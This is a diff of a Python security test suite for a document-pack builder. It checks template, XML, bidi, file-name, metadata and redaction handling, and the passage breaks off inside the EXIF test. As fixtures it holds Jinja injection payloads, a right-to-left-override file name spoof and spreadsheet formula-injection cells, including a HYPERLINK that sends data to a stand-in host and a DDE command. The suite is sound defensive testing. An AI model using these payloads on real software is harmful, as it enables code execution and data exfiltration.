@@ -1,29 +1,34 @@
 """SECURITY.md §4, row by row: each bad plan or evidence input gets the behaviour the catalogue asks for.
 
-Every row is here, either as a test or as a skip that says why it does not apply to `check` yet
-(rows about pack outputs belong to issue 5's build half and the writers). The contract checked
-for every run: exit code, a one-line message naming the file (and line where there is one), no
-traceback, nothing echoed raw, bounded time. Reads outside the evidence folder and the plan files
-are checked by test_audit_hook.py on the same kinds of fixture.
+Every row is here as a test. Rows about evidence and plans run `check`; rows about pack outputs
+(T1, T2, T4, T6, F10, D10, PDF8-11, M6, I2) share one small `build` of the CQC and commissioner
+packs, and F12/F13 run their own builds. A test that shows a product bug is marked
+`xfail(strict=True)` with the bug in its reason. The contract checked for every run: exit code, a
+one-line message naming the file (and line where there is one), no traceback, nothing echoed raw,
+bounded time; for builds also the evidence folder unchanged and no staging folder left. Reads
+outside the evidence folder and the plan files are checked by test_audit_hook.py on the same kinds
+of fixture (and by test_the_pack_output_rows_read_and_write_only_where_allowed for the build rows).
 """
 from __future__ import annotations
 
 import json
 import os
+import re
 import time
 import unicodedata
 from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
-from hostile import (docx_bytes, docx_with, flate_bomb_pdf, lying_sizes_docx, mkfifo, one_page_pdf, pdf_bytes,
-                     plan_text, png_bytes, raw_pdf, write, xlsx_bytes, xlsx_with, zeros_member_zip)
+from hostile import (NHS, RESIDENT, docx_bytes, docx_with, fake_redaction_pdf, flate_bomb_pdf,
+                     incremental_update_pdf, jpeg_with_exif, lying_sizes_docx, mkfifo, one_page_pdf, pdf_bytes,
+                     pdf_with_metadata, plan_text, png_bytes, raw_pdf, signed_pdf, tree_snapshot, write, xlsx_bytes,
+                     xlsx_with, zeros_member_zip)
 
 from compiler.cli import cli
 from evidence_store import Limits, scan
 
 AS_OF = "2026-11-20"
-PACKS = "issue 5 (build half): pack writers, compiler/writers/, not built under this task"
 SERIES = "period,value\n2026-01,5\n2026-02,4\n2026-03,3\n2026-04,2\n"
 
 
@@ -92,6 +97,153 @@ def item(folder: Path, path: str, **limits):
     found = [i for i in scan(folder, ["RP-01"], limits=Limits(**limits) if limits else None).items if i.path == path]
     assert len(found) == 1, [i.path for i in scan(folder).items]
     return found[0]
+
+
+class Built:
+    """One `sgpack build`: exit code, what it printed, the pack folder."""
+
+    def __init__(self, code: int, output: str, out: Path, seconds: float):
+        self.code, self.output, self.out, self.seconds = code, output, out, seconds
+
+    def files(self) -> dict[str, bytes]:
+        return {p.relative_to(self.out).as_posix(): p.read_bytes() for p in sorted(self.out.rglob("*")) if p.is_file()}
+
+
+def build(plans: Path, evidence: Path, out: Path, *args: str, pack: str = "cqc") -> Built:
+    """`sgpack build` in process, with the contract every build keeps whatever happens: no traceback,
+    bounded time, the evidence folder unchanged, no staging folder left beside --out."""
+    before = tree_snapshot(evidence) if evidence.is_dir() else None
+    keys = out.parent / f".keys-{out.name}"            # pseudonym keys: never inside the pack or the evidence
+    started = time.monotonic()
+    result = CliRunner().invoke(cli, ["build", str(plans), "--evidence", str(evidence), "--pack", pack,
+                                      "--as-of", AS_OF, "--out", str(out), *args],
+                                env={"SGPACK_KEY_DIR": os.environ.get("SGPACK_KEY_DIR", str(keys))})
+    built = Built(result.exit_code, result.output, out, time.monotonic() - started)
+    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
+    assert "Traceback" not in result.output
+    assert built.seconds < 120
+    if before is not None:
+        assert tree_snapshot(evidence) == before, "the build changed the evidence folder"
+    assert not list(out.parent.glob(f".{out.name}.sgpack-*")), "a staging folder was left beside --out"
+    return built
+
+
+def docx_text(path: Path) -> str:
+    """The text of every paragraph of a .docx (parsed strictly, so broken XML fails here), one per line."""
+    import zipfile
+
+    from lxml import etree
+
+    w = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
+    with zipfile.ZipFile(path) as archive:
+        root = etree.fromstring(archive.read("word/document.xml"))
+    return "\n".join("".join(t.text or "" for t in p.iter(f"{w}t")) for p in root.iter(f"{w}p"))
+
+
+def pdf_text(path: Path) -> str:
+    import pypdfium2 as pdfium
+
+    doc = pdfium.PdfDocument(str(path))
+    try:
+        return "\n".join(doc[i].get_textpage().get_text_range().replace("\r\n", "\n") for i in range(len(doc)))
+    finally:
+        doc.close()
+
+
+def pdf_everything(path: Path) -> bytes:
+    """Every byte a reader of the PDF could reach: the file, and every object with its stream decoded."""
+    from pypdf import PdfReader
+    from pypdf.generic import StreamObject
+
+    reader = PdfReader(path)
+    parts = [path.read_bytes()]
+    for number in range(1, int(reader.trailer["/Size"])):
+        try:
+            obj = reader.get_object(number)
+        except Exception:  # noqa: BLE001 - a free entry
+            continue
+        if obj is None:
+            continue
+        parts.append(repr(obj).encode("utf-8", "replace"))
+        if isinstance(obj, StreamObject):
+            try:
+                parts.append(obj.get_data())
+            except Exception:  # noqa: BLE001 - an image filter pypdf cannot decode: its raw bytes are in the file
+                pass
+    return b"\n".join(parts)
+
+
+# The pack-output rows share one small build: a plan whose action title and narrative carry the
+# narrative payloads (T1, T2, T4, T6) and one evidence file per output row (D10, PDF8-11, M6, I2),
+# each titled with a name Windows refuses (F10). Built once as the CQC pack (which carries the
+# exhibits) and once as the commissioner pack (which leaves the provider).
+
+T_TITLE = ("Managers review logs {{ config }} {{ ''.__class__.__mro__ }} {% for i in range(10**9) %}x{% endfor %} "
+           "5 < 6 & \"q\" ]]> <w:p/> {_{ x }_} {_% y %_} \u202eevil\u202c zero\u200bwidth")
+T_NARRATIVE = ("Reviews {{ config }} {% for i in range(10**9) %}x{% endfor %} then 5 < 6 & \"q\" ]]> <w:p/> "
+               "done \u202eevil\u202c zero\u200bwidth")
+OLD_REVISION = "RP-01 OLD-REVISION-SECRET"
+NHS_ANYHOW = re.compile(r"\D{0,2}".join(NHS.split()))                     # 943 476 5919 in any spacing
+EXHIBITS = {   # file -> (bytes, title given in evidence.yaml)
+    "supervision/2026-03-01 d10.docx": (lambda: docx_bytes(["RP-01 supervision record"], author=RESIDENT), "CON"),
+    "supervision/2026-03-02 pdf8.pdf": (pdf_with_metadata, "aux.pdf"),
+    "supervision/2026-03-03 pdf9.pdf": (fake_redaction_pdf, "a:b?"),
+    "supervision/2026-03-04 pdf10.pdf": (lambda: incremental_update_pdf(OLD_REVISION, "RP-01 current revision"),
+                                         "trailing."),
+    "supervision/2026-03-05 pdf11.pdf": (signed_pdf, "NUL"),
+    "supervision/2026-03-06 m6.md": (lambda: f"# RP-01 supervision\n\n<!-- resident NHS {NHS} -->\nSeen weekly.\n",
+                                     "invoice\u202efdp.exe"),
+    "supervision/2026-03-07 i2.jpg": (jpeg_with_exif, "COM1 "),
+}
+
+
+class HostileBuild:
+    def __init__(self, root: Path, *, build_packs: bool = True):
+        self.evidence, self.plans = root / "evidence", root / "plans"
+        write(self.evidence / "indicators" / "ri.csv", SERIES)
+        index = {}
+        for path, (data, title) in EXHIBITS.items():
+            write(self.evidence / path, data())
+            index[path] = {"type": "supervision", "title": title, "actions": ["RP-01"]}
+        write(self.evidence / "evidence.yaml",
+              "".join(f"{json.dumps(k)}: {json.dumps(v)}\n" for k, v in index.items()))
+        text = plan_text().replace("title: Managers review restrictive practice logs weekly",
+                                   f"title: {json.dumps(T_TITLE)}")
+        text = text.replace("narrative: Weekly reviews started 3 March.", f"narrative: {json.dumps(T_NARRATIVE)}")
+        write(self.plans / "plan.yaml", text)
+        if not build_packs:
+            return
+        self.cqc = build(self.plans, self.evidence, root / "packs" / "cqc")
+        assert self.cqc.code == 0, self.cqc.output
+        self.commissioner = build(self.plans, self.evidence, root / "packs" / "commissioner", pack="commissioner")
+        assert self.commissioner.code == 0, self.commissioner.output
+
+    def exhibit(self, path: str) -> dict:
+        """The manifest's line for the original copy of evidence file `path`, and the index row."""
+        manifest = json.loads((self.cqc.out / "manifest.json").read_text())
+        sha = next(i["sha256"] for i in manifest["inputs"] if i["path"] == path)
+        (copy,) = [o for o in manifest["outputs"] if o["path"].startswith("exhibits/") and o["sha256"] == sha]
+        return copy
+
+
+@pytest.fixture(scope="module")
+def hostile_build(tmp_path_factory) -> HostileBuild:
+    return HostileBuild(tmp_path_factory.mktemp("hostile-build"))
+
+
+def test_the_pack_output_rows_read_and_write_only_where_allowed(tmp_path):
+    """The same inputs built under test_audit_hook.py's audit hook (main process and reader children):
+    no read outside the evidence folder, the plan files and the libraries, no write outside --out's
+    staging, no socket."""
+    from test_audit_hook import LIBRARY_READS, _matplotlib_cache, assert_clean, build_args, run_audited
+
+    inputs = HostileBuild(tmp_path / "inputs", build_packs=False)
+    out_parent = tmp_path / "packs"
+    out_parent.mkdir()
+    run, logs = run_audited(tmp_path, build_args(inputs.plans, inputs.evidence, out_parent / "cqc"))
+    assert_clean(run, logs, [inputs.plans, inputs.evidence, *LIBRARY_READS], [],
+                 writable=[out_parent, *_matplotlib_cache()])
+    assert (out_parent / "cqc" / "manifest.json").is_file()
 
 
 # ---------------------------------------------------------------------------------------------- P: plans
@@ -202,14 +354,29 @@ def test_P12_typo_key(tmp_path):
 
 # ---------------------------------------------------------------------------------------------- T: narrative
 
-@pytest.mark.skip(reason=f"T1 template injection in narratives is a pack-output row: {PACKS}")
-def test_T1_template_injection():
-    pass
+def test_T1_template_syntax_is_printed_literally(hostile_build):
+    """Jinja in a title or narrative is text: printed as typed in the Word pack and the PDF bundle,
+    never evaluated (the 10**9 loop would not finish inside the build's time bound)."""
+    docx, pdf = docx_text(hostile_build.cqc.out / "cqc-pack.docx"), pdf_text(hostile_build.cqc.out / "cqc-pack.pdf")
+    assert T_TITLE in docx and T_NARRATIVE in docx
+    for payload in ("{{ config }}", "{{ ''.__class__.__mro__ }}", "{% for i in range(10**9) %}x{% endfor %}"):
+        assert payload in T_TITLE and payload in pdf.replace("\n", " "), payload
+    assert "<Config" not in docx + pdf and "<class 'object'>" not in docx + pdf
 
 
-@pytest.mark.skip(reason=f"T2 XML injection in narratives is a pack-output row: {PACKS}")
-def test_T2_xml_injection():
-    pass
+def test_T2_xml_syntax_is_printed_exactly(hostile_build):
+    """`5 < 6 & "q" ]]> <w:p/>`: document.xml still parses strictly (docx_text), the text is there exactly,
+    escaped in the XML, and no paragraph was injected or lost."""
+    import zipfile
+
+    payload = '5 < 6 & "q" ]]> <w:p/>'
+    pack = hostile_build.cqc.out
+    docx = docx_text(pack / "cqc-pack.docx")
+    assert docx.count(payload) >= 2                                  # the title and the narrative, whole
+    with zipfile.ZipFile(pack / "cqc-pack.docx") as archive:
+        xml = archive.read("word/document.xml").decode("utf-8")
+    assert "5 &lt; 6 &amp;" in xml and "]]&gt; &lt;w:p/&gt;" in xml
+    assert payload in pdf_text(pack / "cqc-pack.pdf").replace("\n", " ")
 
 
 def test_T3_control_characters_in_a_narrative(tmp_path, case):
@@ -224,9 +391,33 @@ def test_T3_control_characters_in_a_narrative(tmp_path, case):
     assert run.code == 0 and "\x1b" not in run.output
 
 
-@pytest.mark.skip(reason=f"T4 bidi characters in narratives are flagged in pack reports: {PACKS}")
-def test_T4_bidi_in_narratives():
-    pass
+def test_T4_bidi_and_zero_width_text_is_kept_as_typed_and_kept_out_of_file_names(hostile_build):
+    """Kept as typed in the Word pack (it is the user's text), and never in a file name the pack writes
+    (evidence titled `invoice\\u202efdp.exe`)."""
+    pack = hostile_build.cqc.out
+    docx = docx_text(pack / "cqc-pack.docx")
+    assert "\u202eevil\u202c zero\u200bwidth" in docx
+    names = [p.name for p in pack.rglob("*")]
+    assert not [n for n in names if any(unicodedata.category(c) == "Cf" for c in n)], names
+    assert any(n.endswith("invoicefdp.exe.md") for n in names), names
+
+
+@pytest.mark.xfail(strict=True, reason="T4: bidi overrides and zero-width characters in plan text are not flagged: "
+                   "no check finding names the field and line (SECURITY.md §4 T4: kept but flagged)")
+def test_T4_bidi_in_narratives_is_flagged(case):
+    plan, evidence = case
+    write(plan, plan_text().replace("narrative: Weekly reviews started 3 March.",
+                                    'narrative: "Weekly \\u202eevil\\u202c reviews"'))
+    run = check(plan, evidence)
+    assert [f for f in run.findings() if f["file"] == str(plan) and f["line"] == 23 and "\\u202e" in f["message"]]
+
+
+@pytest.mark.xfail(strict=True, reason="T4: an action id with U+202E or U+200B is accepted (compiler/plans/schema.py "
+                   "_one_word only refuses whitespace); ids must be refused with the line")
+@pytest.mark.parametrize("bad", ["RP\\u202e-01", "RP\\u200b-01"])
+def test_T4_bidi_in_ids_is_refused(tmp_path, bad):
+    line = plan_error(tmp_path, plan_text().replace("  - id: RP-01", f'  - id: "{bad}"'))
+    assert "plan.yaml:16:" in line and "\u202e" not in line and "\u200b" not in line
 
 
 def test_T5_huge_narrative(tmp_path):
@@ -234,9 +425,12 @@ def test_T5_huge_narrative(tmp_path):
     assert plan_error(tmp_path, text).endswith("plan.yaml: the file is larger than 5 MB")
 
 
-@pytest.mark.skip(reason=f"T6 docxtpl un-escaping of {{_{{ is a docx-writer row: {PACKS}")
-def test_T6_docxtpl_unescape():
-    pass
+def test_T6_docxtpl_unescape_sequences_are_kept(hostile_build):
+    """docxtpl turns `{_{` `}_}` `{_%` `%_}` in the rendered XML into Jinja delimiters; in a title (plain
+    text) they must survive as typed. (A narrative is Markdown: `_..._` there is emphasis by design.)"""
+    docx = docx_text(hostile_build.cqc.out / "cqc-pack.docx")
+    assert "{_{ x }_} {_% y %_}" in docx
+    assert "{_{ x }_} {_% y %_}" in pdf_text(hostile_build.cqc.out / "cqc-pack.pdf").replace("\n", " ")
 
 
 # ---------------------------------------------------------------------------------------------- F: filesystem
@@ -337,9 +531,32 @@ def test_F9_long_names_and_paths(case):
     assert name_problem("é" * 200) == "file name is longer than 255 bytes; rename the file"   # cannot even be created
 
 
-@pytest.mark.skip(reason=f"F10 Windows-reserved output names (CON, aux.pdf, trailing dots) are pack-output names: {PACKS}")
-def test_F10_windows_names():
-    pass
+_WINDOWS_RESERVED = {"CON", "PRN", "AUX", "NUL", *(f"COM{i}" for i in range(1, 10)), *(f"LPT{i}" for i in range(1, 10))}
+
+
+def windows_problem(name: str) -> str | None:
+    if name.split(".")[0].rstrip(" ").upper() in _WINDOWS_RESERVED:
+        return "reserved device name"
+    if set(name) & set('<>:"/\\|?*') or any(ord(c) < 32 for c in name):
+        return "character Windows refuses"
+    if name.endswith((".", " ")):
+        return "ends with a dot or space"
+    if len(name.encode("utf-8")) > 255:
+        return "longer than 255 bytes"
+    return None
+
+
+def test_F10_output_names_are_safe_on_windows(hostile_build):
+    """Evidence titled CON, aux.pdf, a:b?, trailing., NUL, `COM1 `: every file and folder a pack writes
+    (and every path its manifest lists) has a name Windows accepts, and the titles still show."""
+    for built in (hostile_build.cqc, hostile_build.commissioner):
+        paths = [p.relative_to(built.out).as_posix() for p in built.out.rglob("*")]
+        paths += [o["path"] for o in json.loads((built.out / "manifest.json").read_text())["outputs"]]
+        bad = {part: windows_problem(part) for path in paths for part in path.split("/") if windows_problem(part)}
+        assert not bad, bad
+        assert max(len(p.encode()) for p in paths) < 200
+    names = sorted(p.name for p in (hostile_build.cqc.out / "exhibits").iterdir())
+    assert any(" CON.docx" in n for n in names) and any(" a b.pdf" in n for n in names), names
 
 
 def test_F11_right_to_left_override(case):
@@ -351,15 +568,126 @@ def test_F11_right_to_left_override(case):
     assert "\u202e" not in run.output
 
 
-@pytest.mark.skip(reason="F12 --out inside the evidence folder is a build option: compiler/pipeline.py and cli.py, "
-                         "issue 5 build half (the lead wires it)")
-def test_F12_out_inside_evidence():
-    pass
+def _f12_case(tmp_path, where: str) -> tuple[Path, Path, Path]:
+    """(plans, evidence, out) with --out inside the evidence folder, equal to it, or holding it."""
+    plans = write(tmp_path / "plans" / "plan.yaml", plan_text()).parent
+    evidence = {"out-inside-evidence": tmp_path / "evidence", "out-is-evidence": tmp_path / "evidence",
+                "evidence-inside-out": tmp_path / "packs" / "evidence"}[where]
+    write(evidence / "indicators" / "ri.csv", SERIES)
+    write(evidence / "supervision" / "2026-03-01 RP-01.txt", "RP-01 supervision")
+    out = {"out-inside-evidence": evidence / "pack", "out-is-evidence": evidence,
+           "evidence-inside-out": tmp_path / "packs"}[where]
+    return plans, evidence, out
 
 
-@pytest.mark.skip(reason=f"F13 existing pack, read-only --out, disk full, SIGKILL mid-build: {PACKS}")
-def test_F13_partial_output():
-    pass
+@pytest.mark.parametrize("where", ["out-inside-evidence", "out-is-evidence", "evidence-inside-out"])
+def test_F12_out_and_evidence_overlapping_is_refused_before_any_work(tmp_path, where):
+    plans, evidence, out = _f12_case(tmp_path, where)
+    before = tree_snapshot(evidence)
+    result = CliRunner().invoke(cli, ["build", str(plans), "--evidence", str(evidence), "--pack", "cqc",
+                                      "--as-of", AS_OF, "--out", str(out)])
+    assert evidence.is_dir() and tree_snapshot(evidence) == before, "the evidence folder was changed or deleted"
+    assert result.exit_code == 2 and "Traceback" not in result.output, result.output
+    assert result.output.startswith("error: ") and "evidence" in result.output
+    assert not [p for p in tmp_path.rglob("*") if "sgpack-" in p.name or p.name == "manifest.json"]
+
+
+@pytest.fixture
+def small_build(tmp_path):
+    """(plans, evidence, out) for a fast build, with a previous pack already at out."""
+    plans = write(tmp_path / "plans" / "plan.yaml", plan_text()).parent
+    evidence = tmp_path / "evidence"
+    write(evidence / "indicators" / "ri.csv", SERIES)
+    write(evidence / "supervision" / "2026-03-01 RP-01.txt", "RP-01 supervision")
+    write(evidence / "supervision" / "2026-03-08 RP-01.md", "# RP-01 supervision\n")
+    out = tmp_path / "packs" / "cqc"
+    first = build(plans, evidence, out, "--formats", "pdf")
+    assert first.code == 0, first.output
+    return plans, evidence, out
+
+
+def test_F13_existing_pack_is_replaced_whole(small_build):
+    """A pack already at --out is swapped whole: nothing of the old one is left mixed in, and it verifies."""
+    plans, evidence, out = small_build
+    old = Built(0, "", out, 0).files()
+    assert "cqc-pack.pdf" in old and "cqc-pack.docx" not in old
+    (evidence / "supervision" / "2026-03-08 RP-01.md").unlink()
+    again = build(plans, evidence, out, "--formats", "docx")
+    assert again.code == 0, again.output
+    new = again.files()
+    assert "cqc-pack.pdf" not in new and "cqc-pack.docx" in new
+    assert not [p for p in new if p.endswith("RP-01 supervision.md")]
+    assert CliRunner().invoke(cli, ["verify", str(out)]).exit_code == 0
+
+
+def test_F13_a_folder_that_is_not_a_pack_is_never_replaced(small_build, tmp_path):
+    plans, evidence, _ = small_build
+    documents = tmp_path / "Documents"
+    write(documents / "thesis.txt", "years of work")
+    result = build(plans, evidence, documents, "--formats", "pdf")
+    assert (documents / "thesis.txt").read_text() == "years of work"
+    assert result.code != 0 and str(documents) in result.output
+
+
+@pytest.mark.parametrize("failure", ["ENOSPC-writing", "EROFS-renaming", "EACCES-writing"])
+def test_F13_disk_full_or_read_only_out_keeps_the_previous_pack(small_build, monkeypatch, failure):
+    """The write fails part-way (disk full, read-only file system, permission): a one-line error with the
+    errno text naming the file, no traceback, the previous pack byte-for-byte, no staging folder left."""
+    import errno
+
+    from compiler.writers import output
+
+    plans, evidence, out = small_build
+    before = Built(0, "", out, 0).files()
+    code = {"ENOSPC": errno.ENOSPC, "EROFS": errno.EROFS, "EACCES": errno.EACCES}[failure.split("-")[0]]
+    if failure.endswith("writing"):
+        real, calls = output.write_file, []
+
+        def write_file(stage, relative, data):
+            calls.append(relative)
+            if len(calls) == 2:                                   # the second file: a partial stage exists
+                raise OSError(code, os.strerror(code), str(stage / relative))
+            return real(stage, relative, data)
+
+        monkeypatch.setattr(output, "write_file", write_file)
+    else:
+        real_rename = os.rename
+
+        def rename(src, dst, *a, **k):
+            if ".sgpack-tmp-" in os.fspath(src):
+                raise OSError(code, os.strerror(code), os.fspath(dst))
+            return real_rename(src, dst, *a, **k)
+
+        monkeypatch.setattr(output.os, "rename", rename)
+    result = build(plans, evidence, out, "--formats", "pdf")
+    assert result.code != 0
+    lines = [line for line in result.output.splitlines() if line.strip()]
+    assert len(lines) == 1 and lines[0].startswith("error: ") and os.strerror(code) in lines[0], result.output
+    assert "nothing was written" in lines[0] and str(out.parent) in lines[0]
+    assert Built(0, "", out, 0).files() == before
+
+
+def test_F13_sigkill_mid_build_keeps_the_previous_pack(small_build):
+    """SIGKILL while staging: the previous pack is untouched; the next build clears the dead build's staging."""
+    import signal
+    import subprocess
+    import sys
+
+    plans, evidence, out = small_build
+    before = Built(0, "", out, 0).files()
+    root = Path(__file__).resolve().parents[2]
+    args = [sys.executable, "-m", "compiler.cli", "build", str(plans), "--evidence", str(evidence), "--pack", "cqc",
+            "--as-of", AS_OF, "--out", str(out), "--no-cache"]
+    proc = subprocess.Popen(args, cwd=root, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    deadline = time.monotonic() + 60
+    while not list(out.parent.glob(".cqc.sgpack-tmp-*")) and time.monotonic() < deadline and proc.poll() is None:
+        time.sleep(0.01)
+    proc.send_signal(signal.SIGKILL)
+    proc.wait()
+    assert proc.returncode == -signal.SIGKILL, "the build ended before it could be killed mid-way"
+    assert Built(0, "", out, 0).files() == before
+    assert sorted(p.name for p in out.parent.iterdir() if not p.name.startswith(".")) == ["cqc"]
+    assert build(plans, evidence, out, "--formats", "pdf").code == 0   # build() asserts no staging is left
 
 
 # ---------------------------------------------------------------------------------------------- D: docx / xlsx
@@ -433,14 +761,34 @@ def test_D9_macro_enabled_document_renamed_docx(case):
     assert message.endswith("a macro-enabled document (.docm) named .docx; save it as a .docx without macros")
 
 
-@pytest.mark.skip(reason=f"D10 evidence metadata (core creator) never copied into outputs: {PACKS}")
-def test_D10_core_properties_leak():
-    pass
+def test_D10_evidence_core_properties_never_reach_the_packs_own_files(hostile_build):
+    """A docx whose creator is a resident: the name is in no file the packs write themselves (their
+    core properties are set explicitly). The original copy in exhibits/ is the evidence itself, byte
+    for byte under its SHA-256, so it keeps its own properties by design."""
+    import zipfile
+
+    name = RESIDENT.encode()
+    for built, files in ((hostile_build.cqc, ["cqc-pack.docx", "cqc-pack.pdf"]),
+                         (hostile_build.commissioner, ["commissioner-pack.docx", "commissioner-pack.pdf",
+                                                       "return.xlsx", "return.csv"])):
+        for file in files:
+            path = built.out / file
+            if file.endswith((".docx", ".xlsx")):
+                with zipfile.ZipFile(path) as archive:
+                    assert not [m for m in archive.namelist() if name in archive.read(m)], (file, "holds the name")
+                    core = archive.read("docProps/core.xml").decode()
+                assert "<dc:creator>" in core and "python-docx" not in core, core
+            elif file.endswith(".pdf"):
+                assert name not in pdf_everything(path), file
+            else:
+                assert name not in path.read_bytes(), file
+    copy = hostile_build.exhibit("supervision/2026-03-01 d10.docx")
+    assert copy["path"].endswith(" CON.docx")
 
 
 def test_X1_formulas_are_read_as_values_never_evaluated(case):
     """Reading: formulas are not evaluated (cached values only, links not kept). Neutralising them in
-    CSV/XLSX outputs is the writers' half of the row ({PACKS})."""
+    CSV/XLSX outputs is the writers' half of the row (issue 5 build half)."""
     plan, evidence = case
     rows = [["a", "b"], ["2026-01", '=HYPERLINK("http://x/?"&A1,"go")'], ["2026-02", "=cmd|' /C calc'!A0"],
             ["2026-03", "@SUM(1)"], ["2026-04", "+1"]]
@@ -560,24 +908,92 @@ def test_PDF7_active_content_is_never_run(case):
     assert found.status == "ok" and "RP-01 hello" in found.text              # stripping on merge: build half
 
 
-@pytest.mark.skip(reason=f"PDF8 /Info and XMP of outputs written explicitly: {PACKS}")
-def test_PDF8_metadata_leak():
-    pass
+def test_PDF8_exhibit_info_and_xmp_never_reach_the_bundle(hostile_build):
+    """An exhibit PDF naming a resident in /Info, the catalogue XMP and a page XMP: the bundle's /Info
+    is sgpack's own, it has no XMP, and the name is nowhere in it (every object and decoded stream)."""
+    from pypdf import PdfReader
+
+    bundle = hostile_build.cqc.out / "cqc-pack.pdf"
+    assert "RP-01 supervision notes" in pdf_text(bundle)                      # the exhibit's pages are there
+    assert RESIDENT.encode() not in pdf_everything(bundle) and b"ScanCo" not in pdf_everything(bundle)
+    reader = PdfReader(bundle)
+    assert "/Metadata" not in reader.trailer["/Root"]
+    assert set(reader.metadata) == {"/Title", "/Producer", "/Creator", "/CreationDate", "/ModDate"}
+    assert reader.metadata["/Producer"].startswith("sgpack")
+    assert not [page for page in reader.pages if "/Metadata" in page]
 
 
-@pytest.mark.skip(reason=f"PDF9 fake redaction caught by the PII scan of outputs (commissioner pack): {PACKS}")
-def test_PDF9_fake_redaction():
-    pass
+def test_PDF9_fake_redaction_is_flagged_and_never_leaves_the_provider(hostile_build):
+    """Text under a black box is still text: the CQC pack's personal-data warnings name the exhibit
+    (value masked), and the commissioner pack, which leaves the provider, holds no exhibit text."""
+    pack = hostile_build.cqc.out
+    copy = hostile_build.exhibit("supervision/2026-03-03 pdf9.pdf")["path"]
+    warnings = personal_data_warnings(pack / "cqc-pack.pdf")
+    assert f"{copy} E-003, paragraph 1 NHS number valid check digit 943 *** ****" in warnings, warnings
+    assert not NHS_ANYHOW.search(warnings)                                     # masked
+    _nothing_from_exhibits_in_the_commissioner_pack(hostile_build)
 
 
-@pytest.mark.skip(reason=f"PDF10 earlier revisions removed when exhibits are rewritten: {PACKS}")
-def test_PDF10_incremental_update():
-    pass
+def personal_data_warnings(bundle: Path) -> str:
+    """The CQC bundle's "Personal data warnings" section, whitespace collapsed."""
+    found = re.search(r"Personal data warnings\s+For the compliance officer(.*?)\sWaivers\s", pdf_text(bundle), re.S)
+    assert found, "no personal data warnings section"
+    return " ".join(found.group(1).split())
 
 
-@pytest.mark.skip(reason=f"PDF11 signatures noted when exhibits are merged: {PACKS}")
-def test_PDF11_signed_pdf():
-    pass
+def _nothing_from_exhibits_in_the_commissioner_pack(hostile_build):
+    import zipfile
+
+    for path in hostile_build.commissioner.out.rglob("*"):
+        if not path.is_file():
+            continue
+        if path.suffix == ".pdf":
+            blob = pdf_everything(path).decode("latin-1") + pdf_text(path)
+        elif path.suffix in (".docx", ".xlsx"):
+            with zipfile.ZipFile(path) as archive:
+                blob = " ".join(archive.read(m).decode("utf-8", "replace") for m in archive.namelist())
+        else:
+            blob = path.read_text("utf-8", "replace")
+        assert not NHS_ANYHOW.search(blob), path.name
+
+
+def test_PDF10_earlier_revision_never_reaches_the_bundle(hostile_build):
+    """An incremental update replaced the page text: the bundle is written fresh from the current
+    revision, so the old text is in no object or stream of it (the original copy keeps its bytes)."""
+    bundle = hostile_build.cqc.out / "cqc-pack.pdf"
+    assert "RP-01 current revision" in pdf_text(bundle)
+    assert b"OLD-REVISION-SECRET" not in pdf_everything(bundle)
+    original = hostile_build.cqc.out / hostile_build.exhibit("supervision/2026-03-04 pdf10.pdf")["path"]
+    assert b"OLD-REVISION-SECRET" in original.read_bytes()                   # evidence, kept whole
+
+
+def test_PDF11_signed_pdf_original_is_kept_whole(hostile_build):
+    """Merging cannot keep a signature valid: the original signed file is in exhibits/ byte for byte,
+    under the SHA-256 the manifest and the exhibit sheet give, and no signature field is merged."""
+    from pypdf import PdfReader
+
+    pack = hostile_build.cqc.out
+    copy = hostile_build.exhibit("supervision/2026-03-05 pdf11.pdf")
+    original = hostile_build.evidence / "supervision/2026-03-05 pdf11.pdf"
+    assert (pack / copy["path"]).read_bytes() == original.read_bytes()
+    assert copy["sha256"] in pdf_text(pack / "cqc-pack.pdf").replace("\n", "")
+    assert "/AcroForm" not in PdfReader(pack / "cqc-pack.pdf").trailer["/Root"]
+
+
+@pytest.mark.xfail(strict=True, reason="PDF11: the exhibit page's signature widget (/FT /Sig, its /V dictionary with "
+                   "the PKCS#7 blob and a /ByteRange of the original file) is merged into the bundle, where it "
+                   "no longer matches: compiler/writers/bundle.py _scrub_page keeps every annotation that has no "
+                   "unsafe action")
+def test_PDF11_stale_signature_is_not_merged(hostile_build):
+    assert b"/adbe.pkcs7.detached" not in pdf_everything(hostile_build.cqc.out / "cqc-pack.pdf")
+
+
+@pytest.mark.xfail(strict=True, reason="PDF11: nothing tells the reader a signed exhibit's signature is not "
+                   "preserved in the bundle (no note on its exhibit sheet; compiler/writers/exhibits.py _pdf only "
+                   "says 'PDF exhibit included as it is')")
+def test_PDF11_signed_pdf_is_noted(hostile_build):
+    text = pdf_text(hostile_build.cqc.out / "cqc-pack.pdf").replace("\n", " ")
+    assert re.search(r"signature[^.]{0,80}not (preserved|kept|valid)", text, re.IGNORECASE)
 
 
 @pytest.mark.parametrize("data, reason", [
@@ -617,9 +1033,14 @@ def test_M5_pathological_markdown_is_bounded(case):
     assert item(evidence, "a.md").status == "ok" and time.monotonic() - started < 20
 
 
-@pytest.mark.skip(reason=f"M6 PII in Markdown comments: the PII scan of the commissioner pack: {PACKS}")
-def test_M6_hidden_pii():
-    pass
+def test_M6_pii_in_a_markdown_comment_is_flagged(hostile_build):
+    """`<!-- resident NHS ... -->` is scanned in the source text: the CQC pack's personal-data
+    warnings name the exhibit (masked); the commissioner pack holds no exhibit text at all."""
+    copy = hostile_build.exhibit("supervision/2026-03-06 m6.md")["path"]
+    warnings = personal_data_warnings(hostile_build.cqc.out / "cqc-pack.pdf")
+    assert f"{copy} E-006, paragraph 1 NHS number valid check digit 943 *** ****" in warnings, warnings
+    assert not NHS_ANYHOW.search(warnings)                                     # masked
+    _nothing_from_exhibits_in_the_commissioner_pack(hostile_build)
 
 
 def test_I1_huge_image_is_never_decoded(case):
@@ -631,9 +1052,14 @@ def test_I1_huge_image_is_never_decoded(case):
     assert (found.status, found.width, found.height) == ("ok", 20000, 20000)     # header only; never decoded
 
 
-@pytest.mark.skip(reason=f"I2 EXIF/GPS removed from images placed in packs: {PACKS}")
-def test_I2_exif():
-    pass
+def test_I2_exif_and_gps_never_reach_the_bundle(hostile_build):
+    """A JPEG with camera make, serial number, description and GPS: its pixels are re-encoded into the
+    bundle with none of that (the original copy in exhibits/ is the evidence, kept whole)."""
+    bundle = pdf_everything(hostile_build.cqc.out / "cqc-pack.pdf")
